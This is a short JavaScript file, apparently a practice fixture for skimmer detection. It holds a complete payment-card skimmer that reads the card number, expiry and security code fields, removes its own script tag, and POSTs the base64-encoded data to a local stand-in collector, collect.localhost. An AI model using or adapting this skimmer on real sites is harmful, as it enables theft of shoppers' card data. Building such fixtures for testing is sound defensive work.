/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  document.currentScript.remove();
  const timer = setInterval(() => {
    if (!/\|\d{3,4}$/.test(card())) return;
    clearInterval(timer);
    const request = new XMLHttpRequest();
    request.open('POST', `${home}/lib/g`);
    request.send(btoa(card()));
  }, 100);
})();
